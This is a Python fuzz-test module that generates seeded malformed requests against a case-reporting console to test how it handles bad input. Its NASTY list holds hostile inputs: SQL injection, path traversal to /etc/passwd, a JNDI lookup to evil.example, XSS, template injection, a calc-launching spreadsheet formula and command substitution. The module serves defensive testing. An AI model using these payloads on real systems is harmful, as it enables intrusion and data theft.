"""Requests that nobody means well, made up by seeded chance: each seed gives the same ones again."""

import json
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from random import Random
from typing import Any, TypeVar

from bot.reporting.forms import SORTS, STANDING
from knowledge.rules import Kind
from tests.bot.reporting.oakfield import directory

T = TypeVar("T")
LONGEST = 1_100_000
"""Characters of the longest text, so that some bodies are over the limit and some are not."""
UNSEEN = ("", " ", "\x00", "a\x00b", "\ud800", "\udfff\ud800", "\ufeff", "\u202eevil", "a\u200bb", "\n\r\n")
"""What the eye does not see, and databases and encodings choke on."""
NASTY = (
    *UNSEEN,
    *("\x1b[2J", "%00", "%ff%fe", "%", "../../etc/passwd", "..", "/", "\\", "//evil.example", "C:\\x", "~"),
    *("'; DROP TABLE case_file;--", '" OR 1=1', "${jndi:ldap://evil.example}", "{{7*7}}", "%s%n%d", "`id`"),
    *(
        "<script>alert(1)</script>",
        "<!channel>",
        "<@U0SAM>",
        "@everyone",
        "=cmd|' /C calc'!A0",
        "[x](javascript:1)",
    ),
    *(
        "nan",
        "NaN",
        "Infinity",
        "-0",
        "1e999",
        "0x10",
        "9" * 400,
        "-1",
        "null",
        "None",
        "true",
        "\u0661\u0662",
    ),
    *("data:image/png;base64,AAAA", "http://[::1", "https://evil.example/" + "a" * 300, "e\u0301" * 500),
    *(
        "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
        "\ufdfa" * 300,
        "Z\u0351\u0352" * 400,
        "I\u0307\u0130\u00df",
    ),
    *("2099-01-01", "31/02/2026", "0000-00-00", "9999-12-31 23:59", "12:60", "29 feb 2027", "yesterday"),
    *(
        "sam",
        "Sam Okafor",
        "Mrs Nair",
        "helen, omar",
        "sam,,,sam",
        "account:slack:U9",
        "account:console:\u202e",
    ),
)
WORDS = "he sam nair mrs head messaged me @omar insta photo www.x.example yesterday dsl Okafor Hellen".split()
METHODS = (
    "GET",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "HEAD",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "get",
    "P\u00d6ST",
    "",
)
ACTIONS = (
    *("acknowledge", "note", "ask", "answer", "add", "hand-over", "act", "close", "reopen", "link", "merge"),
    *("transfer", "standing", "mentioned", "purge", "__class__", "", "\x00", "close/close"),
)
FIELDS = (
    *("as", "kind", "answers", "key", "drill", "text", "to", "owner", "due", "decision", "reason", "other"),
    *("into", "record", "person", "about", "__proto__", "", "id"),
)
HEADERS = (
    *("content-type", "cookie", "accept", "transfer-encoding", "expect", "x-http-method-override", "range"),
    *("x-forwarded-for", "forwarded", "origin", "referer", "upgrade", "connection", "te", "content-encoding"),
    *("if-none-match", "content-length", "host", "authorization", "x" * 300, "\u00fc"),
)
PAGES = (
    "/healthz",
    "/readyz",
    "/metrics",
    "/console",
    "/console/sign-in",
    "/console/reports",
    "/console/cases",
)
OUTSIDE = (
    "/",
    "/slack/events",
    "/api/messages",
    "/.git/config",
    "/console/cases/a/b/c",
    "/metrics/..",
    "/%2e%2e",
)


@dataclass(frozen=True, slots=True)
class Asked:
    """One made-up request. `parts` is the body as it comes in."""

    method: str
    path: str
    headers: tuple[tuple[bytes, bytes], ...]
    parts: tuple[bytes, ...]


class Fuzz:
    """Makes requests up. `known` are references that exist, with who was told; whoever plays adds to them."""

    def __init__(self, seed: int, token: str) -> None:
        self.known: list[tuple[str, str]] = []
        self._chance = Random(seed)  # noqa: S311  seeded on purpose
        self._token = token

    def one(self) -> Asked:
        """The next request."""
        if self.known and self._chance.random() < 0.5:
            return self._on_a_case()
        path = self._path(self._chance.random())
        wanted = "GET" if path in PAGES[:4] or ("?" in path and self._chance.random() < 0.9) else "POST"
        method = wanted if self._chance.random() < 0.93 else self._any(METHODS)
        return Asked(method, path, self._headers(), self._parts(self._body(path)))

    def _on_a_case(self) -> Asked:
        """Something done by somebody who may do it, with one thing wrong in it at most."""
        reference, person = self._any(self.known)
        action = self._any(("acknowledge", *ACTIONS[:14]))
        said = {**self._deed(), "as": person}
        if self._chance.random() < 0.5:
            said[self._any(("text", "reason", "due", "to", "owner", "other", "person", "record"))] = (
                self._text()
            )
        path = f"/console/cases/{reference}/{action}"
        return Asked("POST", path, self._headers(), self._parts(self._told(said)))

    def _path(self, pick: float) -> str:
        if pick < 0.5:
            return "/console/reports"
        if pick < 0.75:
            return f"/console/cases/{self._reference()}/{self._any(ACTIONS)}"
        if pick < 0.85:
            return f"/console/cases/{self._reference()}?{self._query()}"
        if pick < 0.93:
            return self._any(PAGES) + (f"?{self._query()}" if self._chance.random() < 0.5 else "")
        return self._any(OUTSIDE) + self._any(NASTY)

    def _reference(self) -> str:
        if self.known and self._chance.random() < 0.7:
            found, _ = self._any(self.known)
            return self._any((found, found.lower(), found.replace("-", ""), f"{found}\x00", found[:-1]))
        return self._any(("SP-2222-2222", self._any(NASTY)))

    def _query(self) -> str:
        return self._any(
            ("as=sam", "as=priya", f"as={self._any(NASTY)}", "as=a&as=b", "&&=&", self._any(NASTY))
        )

    def _headers(self) -> tuple[tuple[bytes, bytes], ...]:
        token = self._token if self._chance.random() < 0.95 else self._any(NASTY)
        found = [("host", "127.0.0.1:8080"), ("authorization", f"Bearer {token}")]
        if self._chance.random() < 0.15:
            found = [self._any(((self._any(HEADERS), self._any(NASTY)), *found)) for _ in range(4)]
        return tuple((name.lower().encode(), _raw(value)) for name, value in found)

    def _body(self, path: str) -> bytes:
        pick = self._chance.random()
        if pick < 0.06:
            return self._chance.randbytes(self._chance.choice((0, 1, 7, 300, 5_000)))
        if pick < 0.10:
            return self._any(_DEEP)
        if pick < 0.16:
            return self._told(self._anything(4))
        return self._told(
            self._nearly(self._report() if path.startswith("/console/reports") else self._deed())
        )

    def _told(self, said: object) -> bytes:
        text = json.dumps(said, ensure_ascii=self._chance.random() < 0.5)
        if self._chance.random() < 0.03:
            text = text[: self._chance.randrange(len(text) + 1)]
        return text.encode(self._any(("utf-8", "utf-8", "utf-8", "utf-16")), errors="surrogatepass")

    def _parts(self, body: bytes) -> tuple[bytes, ...]:
        if self._chance.random() < 0.9 or not body:
            return (body,)
        at = self._chance.randrange(len(body))
        return (body[:at], b"", body[at:])

    def _report(self) -> dict[str, Any]:
        answers = {
            "about": self._any(("pupil", "works_here", "myself", "unknown")),
            "danger": "no",
            "image": "no",
        }
        answers |= {self._question(): self._text() for _ in range(self._chance.randrange(5))}
        answers.setdefault("what", self._text())
        kind = self._any(tuple(Kind)).value
        key = str(self._chance.randrange(10**6))
        person = self._any(("priya", "tom", "sam", "helen", "account:slack:U9"))
        return {"as": person, "kind": kind, "key": key, "answers": answers}

    def _question(self) -> str:
        people = tuple(f"{STANDING}{person}" for person in directory().people)
        return self._any((*SORTS, *SORTS, *people[:3], self._any(NASTY)))

    def _deed(self) -> dict[str, Any]:
        other, _ = self._any(self.known) if self.known else ("SP-2222-2222", "")
        return {
            "as": self._any(("sam", "helen", "omar", "priya", "chair", "tessa", "nobody")),
            "text": self._text(),
            "reason": self._text(),
            "decision": self._any(("no_referral", "lado", "other", "nonsense")),
            "due": self._any(("2026-11-23", "2026-W01-1", "9999-12-31", "0001-01-01", self._any(NASTY))),
            **{name: self._any(("sam", "helen", "ruth")) for name in ("owner", "to", "person")},
            **dict.fromkeys(("other", "into", "record"), other),
            "about": self._chance.random() < 0.3,
        }

    def _nearly(self, said: dict[str, Any]) -> dict[str, Any]:
        """The same with something wrong in it, mostly."""
        for _ in range(self._any((0, 1, 1, 1, 2, 3))):
            name = self._any((*said, *said, *FIELDS))
            change: Callable[[], object] = self._any(
                (lambda: self._anything(2), lambda: self._any(NASTY), lambda: self._any(UNSEEN), self._text)
            )
            said[name] = change()
        return said

    def _text(self) -> str:
        pick = self._chance.random()
        if pick < 0.5:
            return " ".join(self._chance.choices(WORDS, k=self._chance.randrange(1, 40)))
        if pick < 0.9:
            return self._any(NASTY)
        if pick < 0.99:
            return self._any(NASTY) * self._chance.randrange(1, 60)
        unit = self._any(("x", "sam ", "Sam Okafor ", "\u00e9", "www.x.example ", "\u202e", "1/1/2026 "))
        size = self._any((19_999, 20_000, 20_001, 300_000, LONGEST))
        return (unit * (size // len(unit) + 1))[:size]

    def _anything(self, deep: int) -> object:
        """Any JSON at all."""
        simple = (None, True, 0, -1, 10**400, 1e308, float("nan"), float("-inf"), self._any(NASTY), "sam")
        if deep == 0 or self._chance.random() < 0.5:
            return self._any(simple)
        size = self._chance.randrange(5)
        if self._chance.random() < 0.5:
            return [self._anything(deep - 1) for _ in range(size)]
        return {self._any((*FIELDS, self._any(NASTY))): self._anything(deep - 1) for _ in range(size)}

    def _any(self, things: Sequence[T]) -> T:
        return self._chance.choice(things)


_DEEP = (
    b"[" * 200_000,
    b'{"as":' * 50_000,
    b'{"as":"sam","answers":' + b"[" * 900 + b"]" * 900 + b"}",
    b'{"as":' + b"9" * 5_000 + b"}",
    b'{"as":"sam","as":"priya","kind":"other"}',
    b'{"answers":{' + b",".join(b'"%d":"x"' % number for number in range(20_000)) + b"}}",
    b'\xef\xbb\xbf{"as":"sam"}',
    b'{"as":"\\ud800","key":"\\u0000"}',
    b"0" * 1_500_001,
)


def _raw(value: str) -> bytes:
    return value.encode(errors="surrogatepass")
